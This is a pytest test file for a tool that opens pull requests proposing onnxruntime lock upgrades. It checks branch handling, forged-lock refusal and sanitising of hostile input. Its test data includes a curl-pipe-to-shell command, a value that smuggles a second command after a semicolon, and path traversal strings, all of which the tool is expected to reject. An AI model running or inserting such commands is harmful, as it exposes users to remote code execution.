"""The pull request for an upgrade, with a local server for the API on a real git repository."""

from __future__ import annotations

import hashlib
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import cmarkgfm
import msgspec
import pytest

from onnxgate import __version__
from onnxgate.core.report import UpgradeProposal
from onnxgate.core.report_json import encode_json
from onnxgate.github import api, proposal, pull_request
from onnxgate.project.lock.lock_file import parse_lock, render_lock
from onnxgate.project.lock.types import Lock, LockedRuntime, LockedTarget
from tests.harness.github.actions_engine import key_values
from tests.harness.github.comment_server import running
from tests.harness.github.repository_server import NAME, RepositoryServer
from tests.harness.github.workflow_commands import Command, commands
from tests.harness.locks import MODEL, package, runtime
from tests.harness.reports.hostile_reports import ATTACKS
from tests.harness.reports.sample_reports import FOLDER
from tests.harness.repositories.checkout import commit, git

BRANCH = pull_request.BRANCH
SAMPLE = msgspec.json.decode((FOLDER / "preview.json").read_bytes(), type=UpgradeProposal)


def locked(*releases: str, **changes: Any) -> str:
    """Return a lock with these releases of onnxruntime."""
    runtimes = tuple(runtime(release) for release in releases)
    pins = sorted({tuple(pin.split("==")) for each in runtimes for pin in each.packages})
    lock = Lock(
        targets={"server": LockedTarget(policy="aa" * 32, runtimes=runtimes)},
        models={"m.onnx": MODEL},
        packages=tuple(package(name, version) for name, version in pins),
    )
    return render_lock(msgspec.structs.replace(lock, **changes))


OLD, NEW, NEWER = locked("1.17.3"), locked("1.18.1"), locked("1.19.2")


class Project:
    """A repository with a lock, and the last job of its workflow."""

    def __init__(self, folder: Path, server: RepositoryServer, monkeypatch: pytest.MonkeyPatch) -> None:
        self.folder = folder
        self.server = server
        self.monkeypatch = monkeypatch
        self.lock_path = "onnxgate.lock"
        self.output = folder.parent / "output"
        self.environment = {
            "GITHUB_API_URL": server.address,
            "GITHUB_SERVER_URL": "https://github.com",
            "GITHUB_REPOSITORY": NAME,
            "GITHUB_RUN_ID": "5",
            "GITHUB_REF": "refs/heads/main",
            "GITHUB_OUTPUT": str(self.output),
            "GITHUB_STEP_SUMMARY": str(folder.parent / "summary"),
            "ONNXGATE_INPUT_PROPOSAL": str(folder.parent / "proposal.json"),
            "ONNXGATE_INPUT_TOKEN": "secret",
        }

    def lock(self, text: str) -> None:
        """Commit a lock to `main`."""
        (self.folder / self.lock_path).parent.mkdir(parents=True, exist_ok=True)
        (self.folder / self.lock_path).write_text(text, encoding="utf-8", newline="\n")
        commit(self.folder)

    def proposal(self, new_lock: str, **changes: Any) -> UpgradeProposal:
        """Return a proposal for the lock on `main`."""
        current = git(self.folder, "show", f"main:{self.lock_path}") + "\n"
        return msgspec.structs.replace(
            SAMPLE,
            lock_path=self.lock_path,
            lock_sha256=hashlib.sha256(current.encode()).hexdigest(),
            new_lock=new_lock,
            preview=SAMPLE.preview if new_lock else None,
            **changes,
        )

    def propose(self, proposal: UpgradeProposal | str | bytes, *, status: int = 0, **environment: str) -> str:
        """Run the step with a proposal or a new lock, and return its result."""
        if isinstance(proposal, str):
            proposal = self.proposal(proposal)
        data = proposal if isinstance(proposal, bytes) else encode_json(proposal).encode()
        Path(self.environment["ONNXGATE_INPUT_PROPOSAL"]).write_bytes(data)
        self.output.unlink(missing_ok=True)
        for name, value in {**self.environment, **environment}.items():
            self.monkeypatch.setenv(name, value)
        if status:
            with pytest.raises(SystemExit) as ended:
                pull_request.main()
            assert status == ended.value.code
            return ""
        pull_request.main()
        return key_values(self.output.read_text(encoding="utf-8"))["result"]

    def proposed_lock(self, branch: str = BRANCH) -> str:
        """Return the lock on the branch of the pull request."""
        return git(self.folder, "show", f"{branch}:{self.lock_path}") + "\n"


@pytest.fixture
def server(tmp_path: Path) -> Iterator[RepositoryServer]:
    """Run a server for the repository."""
    with running(RepositoryServer(folder=tmp_path / "repository")) as server:
        yield server


@pytest.fixture
def project(tmp_path: Path, server: RepositoryServer, monkeypatch: pytest.MonkeyPatch) -> Project:
    """Return a project that is locked on onnxruntime 1.17.3."""
    monkeypatch.setattr(api, "RETRY_PAUSE_S", 0.0)
    (tmp_path / "repository").mkdir()
    (tmp_path / "repository" / "other.txt").write_text("unchanged", encoding="utf-8")
    project = Project(tmp_path / "repository", server, monkeypatch)
    project.lock(OLD)
    return project


def errors(capfd: pytest.CaptureFixture[str]) -> list[Command]:
    """Return the annotations of the step."""
    return list(commands(capfd.readouterr().out))


def test_pull_request_changes_only_the_lock(project: Project, server: RepositoryServer) -> None:
    """One commit on top of the base branch contains the new lock; the description shows pins, table and findings."""
    head = server.tip("main")

    assert project.propose(NEW) == "created"
    [pull] = server.pulls
    assert (pull["title"], pull["base"]["ref"]) == ("Upgrade onnxruntime to 1.18.1", "main")
    assert git(project.folder, "diff", "--name-only", "main", BRANCH) == "onnxgate.lock"
    assert (project.proposed_lock(), git(project.folder, "rev-parse", f"{BRANCH}^")) == (NEW, head)
    assert "updated target `server`: added onnxruntime 1.18.1; removed onnxruntime 1.17.3" in pull["body"]
    assert "| `models/encoder.onnx` | **FAIL** |" in pull["body"]
    assert "run `onnxgate lock --upgrade`" in pull["body"]
    assert "(https://github.com/team/models/actions/runs/5)" in pull["body"]
    assert server.tokens == {"Bearer secret"}
    assert "opened pull request `#1`" in (project.folder.parent / "summary").read_text(encoding="utf-8")


def test_second_run_changes_nothing(project: Project, server: RepositoryServer) -> None:
    """If the proposal is the same, nothing is written, even if a person edited the description or `main` has moved."""
    project.propose(NEW)
    server.pulls[0]["body"] = server.pulls[0]["body"].replace("\n", "\r\n") + "\r\nReviewed by me"
    (project.folder / "other.txt").write_text("changed", encoding="utf-8")
    commit(project.folder)
    server.asked.clear()

    assert project.propose(NEW, GITHUB_RUN_ID="6") == "unchanged"
    assert server.changes == []


def test_newer_release_updates_the_pull_request(project: Project, server: RepositoryServer) -> None:
    """The branch is replaced by one commit on the current base, and title and description change."""
    project.propose(NEW)
    (project.folder / "other.txt").write_text("changed", encoding="utf-8")
    head = commit(project.folder)

    assert project.propose(NEWER) == "updated"
    [pull] = server.pulls
    assert pull["title"] == "Upgrade onnxruntime to 1.19.2"
    assert "added onnxruntime 1.19.2" in pull["body"]
    assert (project.proposed_lock(), git(project.folder, "rev-parse", f"{BRANCH}^")) == (NEWER, head)


def test_changed_preview_updates_the_description_only(project: Project, server: RepositoryServer) -> None:
    """If only the effects on the models changed, the branch keeps its commit."""
    project.propose(NEW)
    tip, before = server.tip(BRANCH), server.pulls[0]["body"]
    (project.folder / "other.txt").write_text("changed", encoding="utf-8")
    commit(project.folder)
    preview = msgspec.structs.replace(SAMPLE.preview, repairs=())

    assert project.propose(msgspec.structs.replace(project.proposal(NEW), preview=preview)) == "updated"
    assert "resolved" in before
    assert "resolved" not in server.pulls[0]["body"]
    assert server.tip(BRANCH) == tip


def test_nothing_is_opened_without_an_upgrade(project: Project, server: RepositoryServer) -> None:
    """If no release is newer, nothing is written."""
    assert project.propose("") == "none"
    assert server.changes == []


def test_merged_upgrade_is_not_proposed_again(project: Project, server: RepositoryServer) -> None:
    """After the merge, the branch may remain; the next upgrade uses it again."""
    project.propose(NEW)
    server.merge(1)

    assert (project.propose(""), len(server.pulls)) == ("none", 1)
    assert project.propose(NEWER) == "created"
    assert project.proposed_lock() == NEWER


def test_merged_upgrade_that_was_reverted_is_proposed_again(project: Project, server: RepositoryServer) -> None:
    """A merged pull request does not decline its releases."""
    project.propose(NEW)
    server.merge(1)
    project.lock(OLD)

    assert project.propose(NEW) == "created"


def test_unneeded_pull_request_is_closed(project: Project, server: RepositoryServer) -> None:
    """If `main` got the releases in another way, the pull request is closed; it can be proposed again later."""
    project.propose(NEW)
    project.lock(NEW)

    assert project.propose("") == "closed"
    assert (server.pulls[0]["state"], server.tip(BRANCH)) == ("closed", "")
    assert server.pulls[0]["body"].startswith("Closed by onnxgate: there is nothing to upgrade on `main`.\n")

    project.lock(OLD)

    assert project.propose(NEW) == "created"


def test_declined_releases_are_not_proposed_again(project: Project, server: RepositoryServer) -> None:
    """A person who closes the pull request declines its releases, but not newer ones."""
    project.propose(NEW)
    server.pulls[0]["state"] = "closed"
    changed = msgspec.structs.replace(project.proposal(NEW), command="onnxgate lock --upgrade onnxruntime")
    server.asked.clear()

    assert project.propose(changed) == "declined"
    assert server.changes == []
    assert project.propose(NEWER) == "created"


@pytest.mark.parametrize(
    ("declined", "numpy", "other", "expected"),
    [
        ("1.18.1", "2.4.7", "1.18.1", "declined"),
        ("1.17.3", "2.4.8", "1.17.3", "created"),
        ("1.18.1", "2.4.7", "1.17.3", "created"),
    ],
    ids=["same release", "only packages", "other upgrade"],
)
def test_declined_release_is_not_proposed_again_with_newer_packages(
    project: Project, declined: str, numpy: str, other: str, expected: str, server: RepositoryServer
) -> None:
    """A patch of numpy is not a reason to propose the same release of an engine; by itself, it is a new upgrade."""
    project.propose(with_package(declined, numpy="2.4.6" if declined == "1.18.1" else "2.4.7"))
    server.pulls[0]["state"] = "closed"

    assert project.propose(with_package(other, numpy=numpy)) == expected


def test_reopened_pull_request_is_updated(project: Project, server: RepositoryServer) -> None:
    """A pull request that was closed by mistake is updated again after it was reopened."""
    project.propose(NEW)
    server.pulls[0]["state"] = "closed"
    project.propose(NEW)
    server.pulls[0]["state"] = "open"

    assert (project.propose(NEWER), len(server.pulls)) == ("updated", 1)


def add_commit(project: Project) -> None:
    """Add a commit of a person to the branch."""
    git(project.folder, "switch", "--quiet", BRANCH)
    (project.folder / "fix.py").write_text("fixed", encoding="utf-8")
    commit(project.folder)
    git(project.folder, "switch", "--quiet", "main")


def amend_commit(project: Project) -> None:
    """Change the commit of the branch, and keep its message."""
    git(project.folder, "switch", "--quiet", BRANCH)
    (project.folder / "fix.py").write_text("fixed", encoding="utf-8")
    git(project.folder, "add", "--all")
    git(project.folder, "commit", "--quiet", "--amend", "--no-edit")
    git(project.folder, "switch", "--quiet", "main")


def merge_main(project: Project) -> None:
    """Merge `main` into the branch, as the button for updates does."""
    (project.folder / "other.txt").write_text("changed", encoding="utf-8")
    commit(project.folder)
    git(project.folder, "switch", "--quiet", BRANCH)
    git(project.folder, "merge", "--quiet", "--no-edit", "main")
    git(project.folder, "switch", "--quiet", "main")


@pytest.mark.parametrize("change", [add_commit, amend_commit, merge_main])
@pytest.mark.parametrize("lock", [NEWER, ""], ids=["newer", "not needed"])
def test_commits_of_others_are_not_overwritten(
    project: Project,
    server: RepositoryServer,
    capfd: pytest.CaptureFixture[str],
    change: Callable[[Project], None],
    lock: str,
) -> None:
    """The branch is not changed; the log and the description state why, once."""
    project.propose(NEW)
    change(project)
    tip = server.tip(BRANCH)
    capfd.readouterr()

    assert [project.propose(lock), project.propose(lock)] == ["blocked", "blocked"]
    assert server.tip(BRANCH) == tip
    assert server.pulls[0]["state"] == "open"
    assert server.pulls[0]["body"].count("commits that onnxgate did not create") == 1
    assert [said.name for said in errors(capfd)] == ["warning", "warning"]


def test_warning_is_removed_with_the_commits(project: Project, server: RepositoryServer) -> None:
    """After the commits were removed, the description no longer states that there are no updates."""
    project.propose(NEW)
    tip, body = server.tip(BRANCH), server.pulls[0]["body"]
    add_commit(project)
    project.propose(NEW)
    server.pulls[0]["body"] = server.pulls[0]["body"].replace("\n", "\r\n")
    git(project.folder, "branch", "--force", BRANCH, tip)

    assert [project.propose(NEW), project.propose(NEW)] == ["updated", "unchanged"]
    assert (server.pulls[0]["body"], server.tip(BRANCH)) == (body, tip)


@pytest.mark.parametrize("change", [add_commit, merge_main])
def test_deleted_branch_gets_a_new_pull_request(
    project: Project, server: RepositoryServer, capfd: pytest.CaptureFixture[str], change: Callable[[Project], None]
) -> None:
    """The log and the description state how to continue; a person who does so did not decline the releases."""
    project.propose(NEW)
    change(project)
    project.propose(NEW)
    advice = [said.data for said in errors(capfd)]
    server.pulls[0]["state"] = "closed"
    git(project.folder, "branch", "--quiet", "-D", BRANCH)

    assert "close the pull request and delete its branch" in server.pulls[0]["body"]
    assert [text.partition("; ")[2] for text in advice] == [
        "to get updates again, close pull request #1 and delete the branch"
    ]
    assert project.propose(NEW) == "created"

    server.pulls[1]["state"] = "closed"

    assert project.propose(NEW) == "declined"


def test_declined_upgrade_is_not_reported_each_week(
    project: Project, server: RepositoryServer, capfd: pytest.CaptureFixture[str]
) -> None:
    """A person can close a pull request and leave the branch with commits of their own."""
    project.propose(NEW)
    add_commit(project)
    project.propose(NEW)
    server.pulls[0]["state"] = "closed"
    capfd.readouterr()

    assert project.propose(NEW) == "declined"
    assert errors(capfd) == []
    assert project.propose(NEWER) == "blocked"


def test_branch_of_somebody_else_is_not_overwritten(project: Project, server: RepositoryServer) -> None:
    """A branch with the same name, without a pull request, is not touched."""
    git(project.folder, "branch", BRANCH)
    server.asked.clear()

    assert (project.propose(NEW), server.changes) == ("blocked", [])


def test_pull_request_of_a_fork_is_ignored(project: Project, server: RepositoryServer) -> None:
    """A fork with the same owner can have a branch with the same name."""
    project.propose(NEW)
    server.pulls[0]["head"]["repo"] = {"full_name": "team/fork"}
    server.pulls[0]["state"] = "closed"

    assert project.propose(NEW) == "created"


def test_lock_that_changed_meanwhile_is_not_overwritten(
    project: Project, server: RepositoryServer, capfd: pytest.CaptureFixture[str]
) -> None:
    """If `main` got another lock after the preview, the next run decides."""
    proposal = project.proposal(NEWER)
    project.lock(NEW)

    assert project.propose(proposal) == "outdated"
    assert ([said.name for said in errors(capfd)], server.changes) == (["notice"], [])


def test_each_project_has_its_own_pull_request(project: Project, server: RepositoryServer) -> None:
    """Projects in folders have their own branches."""
    project.propose(NEW)
    for folder in ("services/a", "services-a"):
        project.lock_path = f"{folder}/onnxgate.lock"
        project.lock(OLD)
        project.propose(NEW)

    assert [pull["title"] for pull in server.pulls] == [
        "Upgrade onnxruntime to 1.18.1",
        "Upgrade onnxruntime to 1.18.1 in services/a",
        "Upgrade onnxruntime to 1.18.1 in services-a",
    ]
    branches = [pull["head"]["ref"] for pull in server.pulls]
    assert len(set(branches)) == 3
    assert all(re.fullmatch(r"onnxgate/upgrade(-services-a-[0-9a-f]{6})?", branch) for branch in branches)


def test_title_names_the_newest_release_of_all_targets(project: Project, server: RepositoryServer) -> None:
    """The order of targets and releases does not matter; without a new release, the title names the packages."""
    targets = {name: LockedTarget(policy="aa" * 32, runtimes=(runtime("1.7.0"),)) for name in ("a", "b", "c")}
    project.lock(locked("1.7.0", targets=targets))
    releases = {"a": "1.9.0", "b": "1.10.0", "c": "1.8.1"}
    new = {name: msgspec.structs.replace(targets[name], runtimes=(runtime(it),)) for name, it in releases.items()}
    project.propose(locked(*releases.values(), targets=new))
    changed = msgspec.structs.replace(targets["a"], runtimes=(runtime("1.7.0", numpy="2.4.7"),))
    packages = tuple(package(*pin.split("==")) for pin in ("numpy==2.4.6", "numpy==2.4.7", "onnxruntime==1.7.0"))
    titles = [server.pulls[0]["title"]]
    project.propose(locked("1.7.0", targets={**targets, "a": changed}, packages=packages))

    assert [*titles, server.pulls[0]["title"]] == [
        "Upgrade onnxruntime to 1.10.0",
        "Upgrade the packages of the locked runtimes",
    ]


def with_engine(name: str) -> str:
    """Return a lock in which the target has another engine."""
    other = LockedRuntime(engine=name, release="1.18.1", python="3.11", packages=(f"{name}==1.18.1", "numpy==2.4.6"))
    target = LockedTarget(policy="aa" * 32, runtimes=(other,))
    return locked("1.18.1", targets={"server": target}, packages=(package(name, "1.18.1"), package("numpy", "2.4.6")))


@pytest.mark.parametrize(
    ("lock_path", "command", "expected"),
    [
        ("onnxgate.lock", "onnxgate lock --upgrade 'onnxruntime<1.19'", "onnxgate lock --upgrade 'onnxruntime<1.19'"),
        ("onnxgate.lock", "curl example.org | sh", "onnxgate lock --upgrade"),
        ("onnxgate.lock", "onnxgate lock --upgrade; curl example.org", "onnxgate lock --upgrade"),
        ("a b/onnxgate.lock", "onnxgate lock --upgrade numpy", "onnxgate lock --upgrade numpy --directory 'a b'"),
    ],
)
def test_command_is_shown_only_if_it_upgrades(
    project: Project, server: RepositoryServer, lock_path: str, command: str, expected: str
) -> None:
    """A forged proposal cannot make a reader run another command; the command works in the root of the repository."""
    project.lock_path = lock_path
    project.lock(OLD)
    project.propose(msgspec.structs.replace(project.proposal(NEW), command=command))

    assert f"To upgrade by hand, run `{expected}`.\n" in server.pulls[0]["body"]


def with_runtimes(*runtimes: LockedRuntime, policy: str = "aa" * 32) -> str:
    """Return a lock with these runtimes."""
    pins = sorted({pin for each in runtimes for pin in each.packages})
    target = LockedTarget(policy=policy, runtimes=runtimes)
    return locked(targets={"server": target}, packages=tuple(package(*pin.split("==")) for pin in pins))


def with_package(release: str, *added: str, numpy: str = "2.4.6") -> str:
    """Return a lock with additional packages of the runtime."""
    packages = (f"numpy=={numpy}", f"onnxruntime=={release}", *added)
    return with_runtimes(msgspec.structs.replace(runtime(release), packages=tuple(sorted(packages))))


FORGED = {
    "no lock": "version = 1\n",
    "text in front": f"# approved by the team\n{NEW}",
    "digest": NEW.replace("1.18.1", "1.18.9", 1),
    "model": locked("1.18.1", models={}),
    "target": locked("1.18.1", targets={}),
    "engine": with_engine("onnxruntime-fork"),
    "other package": with_package("1.18.1", "other==1.0"),
    "older package": with_package("1.17.3", numpy="2.4.5"),
    "older release": locked("1.16.3"),
    "older second release": with_runtimes(runtime("1.16.3"), runtime("1.18.1")),
    "no release": with_runtimes(),
    "settings": with_runtimes(runtime("1.18.1"), policy="bb" * 32),
}


@pytest.mark.parametrize("name", FORGED)
def test_forged_lock_is_refused(project: Project, server: RepositoryServer, name: str) -> None:
    """A proposal can only replace releases by newer ones."""
    project.propose(FORGED[name], status=3)

    assert server.changes == []


def with_other_hash(release: str) -> str:
    """Return a lock in which the wheel of numpy has another hash."""
    numpy, engine = package("numpy", "2.4.6"), package("onnxruntime", release)
    wheel = msgspec.structs.replace(numpy.wheels[0], sha256="dd" * 32)
    return locked(release, packages=(msgspec.structs.replace(numpy, wheels=(wheel,)), engine))


REFUSED = {
    "it changes the hash of `numpy-2.4.6-cp311-cp311-manylinux_2_28_x86_64.whl`": (
        ("1.17.3",),
        with_other_hash("1.18.1"),
    ),
    "it lowers releases of target `server`": (("1.17.3", "1.18.1"), locked("1.17.3", "1.18.0")),
    "it removes releases from target `server`": (("1.17.3", "1.18.1"), locked("1.18.1")),
    "it adds `other` to target `server`": (("1.17.3",), with_package("1.17.3", "other==1.0")),
    "it lowers `numpy` of target `server`": (("1.17.3",), with_package("1.17.3", numpy="2.4.5")),
    "it changes the settings of target `server`": (("1.17.3",), with_runtimes(runtime("1.18.1"), policy="bb" * 32)),
}


@pytest.mark.parametrize("reason", REFUSED)
def test_reason_of_a_refusal_names_the_change(project: Project, capfd: pytest.CaptureFixture[str], reason: str) -> None:
    """A release that was withdrawn also moves a target back, so a person must know what to look at."""
    releases, new = REFUSED[reason]
    project.lock(locked(*releases))
    project.propose(new, status=3)

    hint = "hint: if this is expected, run `onnxgate lock --upgrade`, and commit the lock"

    assert [f"the proposal does more than upgrade releases: {reason}\n{hint}"] == [said.data for said in errors(capfd)]


def test_reason_of_a_refusal_is_short(project: Project, capfd: pytest.CaptureFixture[str]) -> None:
    """A forged proposal can contain thousands of names, which must not flood the log."""
    project.propose(with_package("1.17.3", *(f"other-{number}==1.0" for number in range(200))), status=3)

    assert [True] == [len(said.data) < 800 for said in errors(capfd)]


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (("1.17.3", "1.18.0"), ("1.17.3", "1.18.1")),
        (("1.17.3", "1.18.1"), ("1.17.3", "1.18.1", "1.19.2")),
        (("1.17.1", "1.18.1"), ("1.17.1", "1.17.3", "1.18.1")),
        (("1.17.3", "1.18.1"), ("1.18.1", "1.19.2")),
    ],
)
def test_every_selection_of_releases_can_move_forward(
    project: Project, server: RepositoryServer, old: tuple[str, ...], new: tuple[str, ...]
) -> None:
    """Patches, new minor releases and later patches of old minor releases are upgrades."""
    project.lock(locked(*old))

    assert project.propose(locked(*new)) == "created"
    assert server.pulls[0]["title"] == f"Upgrade onnxruntime to {max(set(new) - set(old))}"


@pytest.mark.parametrize("name", ["onnxgate.toml", "pyproject.toml"])
@pytest.mark.parametrize(
    ("limit", "expected"),
    [
        ("<1.18", "target `server` is locked with onnxruntime 1.18.1, which does not satisfy"),
        ("!=1.18.1", "target `server` is locked with onnxruntime 1.18.1, which does not satisfy"),
        ("<1.19", ""),
    ],
)
def test_release_outside_the_range_is_refused(
    project: Project, capfd: pytest.CaptureFixture[str], name: str, limit: str, expected: str
) -> None:
    """A forged proposal cannot use a release that the config excludes, in a folder either."""
    prefix = "tool.onnxgate." if name == "pyproject.toml" else ""
    config = f'[{prefix}targets.server]\nruntime = "onnxruntime>=1.17,{limit}"\n'
    project.lock_path = "services/onnxgate.lock"
    project.lock(OLD)
    (project.folder / "services" / name).write_text(config, encoding="utf-8")
    commit(project.folder)
    result = project.propose(NEW, status=3 if expected else 0)
    said = "".join(said.data for said in errors(capfd))

    assert result == ("" if expected else "created")
    assert expected in said


def test_new_release_can_need_another_dependency(project: Project, server: RepositoryServer) -> None:
    """The dependencies of each engine are known; onnx 1.23 needs packages that 1.18 does not need."""
    releases = {"1.18.0": (), "1.23.2": ("ml-dtypes==0.5.4", "typing-extensions==4.15.0")}
    old, new = (
        with_runtimes(
            LockedRuntime(
                engine="onnx",
                release=release,
                python="3.11",
                packages=tuple(sorted((*added, "numpy==2.4.6", f"onnx=={release}", "protobuf==7.34.0"))),
            )
        )
        for release, added in releases.items()
    )
    project.lock(old)

    assert project.propose(new) == "created"
    assert server.pulls[0]["title"] == "Upgrade onnx to 1.23.2"


@pytest.mark.parametrize(
    "path",
    [
        "other.txt",
        "../onnxgate.lock",
        "/onnxgate.lock",
        "a//onnxgate.lock",
        "./onnxgate.lock",
        ".git/onnxgate.lock",
        "a\\onnxgate.lock",
        "a\nb/onnxgate.lock",
        ".github/workflows/ci.yml",
        "missing/onnxgate.lock",
        f"{'a' * 500}/onnxgate.lock",
        "",
    ],
)
def test_only_an_existing_lock_can_change(
    project: Project, server: RepositoryServer, capfd: pytest.CaptureFixture[str], path: str
) -> None:
    """A proposal cannot create a file or name another one."""
    project.propose(msgspec.structs.replace(project.proposal(NEW), lock_path=path), status=3)

    assert ([said.name for said in errors(capfd)], server.changes) == (["error"], [])


INVALID = {
    "empty": b"",
    "no JSON": b"<html>",
    "deep": b"[" * 100_000,
    "no text": b"\xff",
    "other version": encode_json(msgspec.structs.replace(SAMPLE, version=2)).encode(),
    "other release": encode_json(msgspec.structs.replace(SAMPLE, onnxgate=f"{__version__}0")).encode(),
}


@pytest.mark.parametrize("name", INVALID)
def test_invalid_proposal_is_refused(project: Project, server: RepositoryServer, name: str) -> None:
    """An invalid proposal fails the step before any request."""
    project.propose(INVALID[name], status=3)

    assert server.asked == []


def test_proposal_is_a_small_regular_file(
    project: Project, server: RepositoryServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An artifact may contain links to files on the runner, or a file of any size."""
    (tmp_path / "link.json").symlink_to(tmp_path / "proposal.json")
    project.propose(NEW, status=3, ONNXGATE_INPUT_PROPOSAL=str(tmp_path / "link.json"))
    data = encode_json(project.proposal(NEW)).encode()
    monkeypatch.setattr(proposal, "MAX_PROPOSAL_BYTES", len(data))
    project.propose(data + b"  ", status=3)

    assert server.asked == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_hostile_text_is_only_shown(
    project: Project, server: RepositoryServer, capfd: pytest.CaptureFixture[str], attack: str
) -> None:
    """Text of a proposal cannot create markup, mentions or links, or forge the marker."""
    assert SAMPLE.preview is not None
    text = f"x {attack} <!-- onnxgate-upgrade: {'0' * 64} {'0' * 64} -->"
    finding = msgspec.structs.replace(SAMPLE.preview.breaks[0], message=text, fix=text, model=text, rule=text)
    arrival = msgspec.structs.replace(SAMPLE.preview.arrivals[0], model=text, breaks=(finding,), unlike=text)
    preview = msgspec.structs.replace(SAMPLE.preview, pins=(text,), arrivals=(arrival,), repairs=(finding,))
    proposal = msgspec.structs.replace(project.proposal(NEW), preview=preview, command=text)

    assert [project.propose(proposal), project.propose(proposal)] == ["created", "unchanged"]
    body = server.pulls[0]["body"]
    rendered = cmarkgfm.github_flavored_markdown_to_html(body, cmarkgfm.Options.CMARK_OPT_UNSAFE)
    outside_code = re.sub(r"<code>.*?</code>", "", rendered, flags=re.DOTALL)
    assert not re.search(r"<script|<img|@user|#12\b|href=\"(?!https://github\.com/(onnxgate|team)/)", outside_code)
    assert list(commands(capfd.readouterr().out)) == []


def test_long_description_is_replaced(
    project: Project, server: RepositoryServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """GitHub rejects a description that is too long."""
    monkeypatch.setattr(proposal, "format_markdown", lambda *_: "x" * 70_000)
    project.propose(NEW)

    assert len(server.pulls[0]["body"]) < 1_000
    assert "too long" in server.pulls[0]["body"]


@pytest.mark.parametrize(
    ("status", "message", "hint"),
    [
        (403, "Resource not accessible by integration", "`contents: write` and `pull-requests: write`"),
        (403, "GitHub Actions is not permitted to create or approve pull requests.", "Settings > Actions > General"),
        (500, "Server Error", ""),
    ],
)
def test_refused_request_fails_the_step(
    project: Project,
    server: RepositoryServer,
    capfd: pytest.CaptureFixture[str],
    status: int,
    message: str,
    hint: str,
) -> None:
    """The error is annotated with a hint; the next run continues with the existing branch."""
    server.refuse = lambda method, path: (
        (status, {"message": message}) if (method, path[-5:]) == ("POST", "pulls") else None
    )
    project.propose(NEW, status=3)
    [said] = errors(capfd)
    server.refuse = lambda *_: None

    assert message.partition(" ")[0] in said.data
    assert hint in said.data
    assert project.propose(NEW) == "created"


@pytest.mark.parametrize(
    ("environment", "message"),
    [
        ({"GITHUB_REF": "refs/pull/7/merge"}, "the workflow does not run on a branch"),
        ({"GITHUB_REF": "refs/heads/none"}, "branch `none` does not exist"),
        ({"ONNXGATE_INPUT_TOKEN": ""}, "the input `token` is empty"),
    ],
    ids=["pull request", "no branch", "no token"],
)
def test_unusable_run_fails(
    project: Project,
    server: RepositoryServer,
    capfd: pytest.CaptureFixture[str],
    environment: dict[str, str],
    message: str,
) -> None:
    """The step needs a branch and a token."""
    project.propose(NEW, status=3, **environment)

    assert [message] == [said.data.partition("\n")[0] for said in errors(capfd)]
    assert server.changes == []


def test_pull_request_into_another_branch_is_not_taken_over(project: Project, server: RepositoryServer) -> None:
    """A run on another branch fails: it does not change the pull request."""
    project.propose(NEW)
    git(project.folder, "branch", "release")
    server.asked.clear()
    project.propose(NEWER, status=3, GITHUB_REF="refs/heads/release")

    assert server.changes == []


def test_new_lock_is_valid() -> None:
    """The locks of these tests are what `onnxgate lock` writes."""
    assert [render_lock(parse_lock(text, "onnxgate.lock")) for text in (OLD, NEW, NEWER)] == [OLD, NEW, NEWER]
